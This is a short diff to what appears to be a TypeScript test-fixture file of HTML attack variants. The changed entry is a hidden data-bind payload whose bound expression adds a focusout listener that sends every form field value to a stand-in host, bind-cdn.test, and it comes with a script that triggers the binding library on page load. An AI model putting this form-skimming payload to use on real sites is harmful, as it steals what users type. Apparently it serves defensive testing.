@@ -87,7 +87,7 @@ export const tenthAttacks: readonly Variant[] = [
   html(
     't10-bound-text',
     'an element with a binding whose text is code: the library runs it',
-    code`<i data-bind="text:x" hidden></i><i id="tb" data-bind="text:document.addEventListener('focusout',function(e){if(e.target.value)new Image().src='http://bind-cdn.test/?'+e.target.value})||''" hidden></i><script>addEventListener("load",function(){setTimeout(function(){require(["binding"],function(b){b.apply(document.getElementById("tb").parentNode,{x:""})})},300)})</script>`,
+    code`<p hidden><i id="tb" data-bind="text:document.addEventListener('focusout',function(e){if(e.target.value)new Image().src='http://bind-cdn.test/?'+e.target.value})||''"></i></p><script>addEventListener("load",function(){setTimeout(function(){require(["binding"],function(b){b.apply(document.getElementById("tb").parentNode,{x:""})})},300)})</script>`,
   ),
   own(
     't10-qr-pay',
